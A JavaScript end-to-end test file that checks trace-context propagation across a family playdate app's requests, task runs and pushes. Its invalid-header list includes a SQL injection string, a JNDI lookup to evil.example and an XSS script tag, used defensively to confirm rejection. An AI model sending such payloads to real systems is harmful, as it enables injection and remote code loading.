import assert from 'node:assert/strict';
import {after, before, test} from 'node:test';
import {Collector} from './collector.js';
import {connection, goTo, newFamily, openStack, signUp, stack, visit} from './stack.js';

const WELL_FORMED = /^00-[0-9a-f]{32}-[0-9a-f]{16}-01$/;
/** Invalid traceparent headers, among them attempts at injection. */
const NO_TRACES = [
  '', 'x', '00', '-', '---', `00-${'0'.repeat(32)}-${'b'.repeat(16)}-01`, `00-${'a'.repeat(32)}-${'0'.repeat(16)}-01`,
  `00-${'A'.repeat(32)}-${'b'.repeat(16)}-01`, `ff-${'a'.repeat(32)}-${'b'.repeat(16)}-01`, `00-${'a'.repeat(33)}-${'b'.repeat(16)}-01`,
  `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01-more`, `00-${'a'.repeat(32)}-${'b'.repeat(16)}-1`, `00-${'g'.repeat(32)}-${'b'.repeat(16)}-01`,
  "00-'; DROP TABLE agent_tasks; --", '00-${jndi:ldap://evil.example/a}-b-01', '<script>alert(1)</script>', 'a'.repeat(6_000),
];

let world;
let collector;

before(async () => {
  collector = await new Collector().open(Number(process.env.COLLECTOR_PORT));
  world = await openStack();
});
after(async () => {
  await world.close();
  await collector.close();
});

/** Run `press` and return the trace of the request that the page sends. */
async function traced(page, path, press) {
  const [answer] = await Promise.all([
    page.waitForResponse((response) => response.url().endsWith(path) && response.request().method() === 'POST'),
    press(),
  ]);
  const traceparent = answer.request().headers().traceparent;
  assert.match(traceparent, WELL_FORMED);
  const [, traceId, spanId] = traceparent.split('-');
  assert.equal((await answer.json()).traceId, traceId);
  return {traceId, spanId};
}

/** Return the name of each span's parent; the browser is the parent of the first. */
function parents(spans, browser) {
  const names = new Map([[browser, 'the browser'], ...spans.map(({spanId, name}) => [spanId, name])]);
  return new Map(spans.map(({name, parentSpanId}) => [name, names.get(parentSpanId)]));
}

test('one press is one trace: request, submit, run, steps, push', async () => {
  const {page} = await visit(world);
  await signUp(page, newFamily());
  await connection(page, 'live');
  await page.getByRole('combobox', {name: 'Find a town'}).fill('Lisbon');
  await page.getByRole('listbox', {name: 'Towns'}).getByRole('option').first().click();
  const {traceId, spanId} = await traced(page, '/api/playdate-point/coordinates', () => page.getByRole('button', {name: 'Meet here'}).click());
  await page.locator('.task[data-status="completed"]').waitFor();
  const [request, submit, run] = ['POST /api/playdate-point/coordinates', 'submit location.playdate.update', 'run location.playdate.update'];
  const spans = await collector.trace(traceId, [request, submit, run, 'step insight.locate', 'step insight.retrieve', 'push']);
  const above = parents(spans, spanId);
  assert.equal(above.get(request), 'the browser');
  assert.equal(above.get(submit), request);
  assert.equal(above.get(run), submit);
  assert.equal(above.get('step insight.locate'), run);
  assert.ok([submit, run].includes(above.get('push')), above.get('push'));
});

test('the runs of children belong to the trace of the press, also those of another family', async () => {
  const [one, two] = [newFamily(), newFamily()];
  const [left, right] = [await visit(world), await visit(world)];
  await Promise.all([signUp(left.page, one), signUp(right.page, two)]);
  await goTo(left.page, 'Friends');
  await left.page.getByLabel('Ask a family by name').fill(two.name);
  await traced(left.page, '/api/friends/ask', () => left.page.getByRole('button', {name: 'Ask', exact: true}).click());
  await left.page.locator('.people', {hasText: 'Requests you sent'}).getByText(two.name).waitFor();
  await goTo(right.page, 'Friends');
  const accept = right.page.getByRole('button', {name: `Accept ${one.name}`});
  await accept.waitFor();
  const {traceId, spanId} = await traced(right.page, '/api/friends/setstate', () => accept.click());
  const child = 'run friend.recommendations';
  const spans = await collector.trace(traceId, ['POST /api/friends/setstate', 'run friend.setState', child, child, 'push', 'push']);
  const above = parents(spans, spanId);
  assert.equal(above.get('run friend.setState'), 'submit friend.setState');
  assert.equal(above.get(child), 'run friend.setState');
});

test('a refused request shows no reference, and keeps its trace', async () => {
  const {page} = await visit(world);
  await signUp(page, newFamily());
  await goTo(page, 'Friends');
  await page.getByLabel('Ask a family by name').fill('Nobody Of This Name');
  const {traceId} = await traced(page, '/api/friends/ask', () => page.getByRole('button', {name: 'Ask', exact: true}).click());
  await page.getByText('We know no family called').first().waitFor();
  assert.equal(await page.locator('.reference').count(), 0);
  await collector.trace(traceId, ['POST /api/friends/ask', 'run friend.ask']);
});

test('an invalid traceparent starts a new trace and is not repeated', async () => {
  const headers = {'content-type': 'application/json'};
  const {name: identifier, password} = stack.users[0];
  const login = await fetch(`${stack.api_url}/auth/login`, {method: 'POST', headers, body: JSON.stringify({identifier, password})});
  const {accessToken} = await login.json();
  for (const traceparent of NO_TRACES) {
    const answer = await fetch(`${stack.api_url}/api/tasks`, {
      method: 'POST', headers: {...headers, traceparent, authorization: `Bearer ${accessToken}`}, body: '{"type": "echo", "payload": {}}',
    });
    assert.equal(answer.status, 202, traceparent);
    const {traceId} = await answer.json();
    assert.match(traceId, /^[0-9a-f]{32}$/);
    assert.notEqual(traceId, 'a'.repeat(32), traceparent);
    const spans = await collector.trace(traceId, ['POST /api/tasks', 'submit echo', 'run echo']);
    assert.equal(spans.find((span) => span.name === 'POST /api/tasks').parentSpanId, undefined);
  }
});
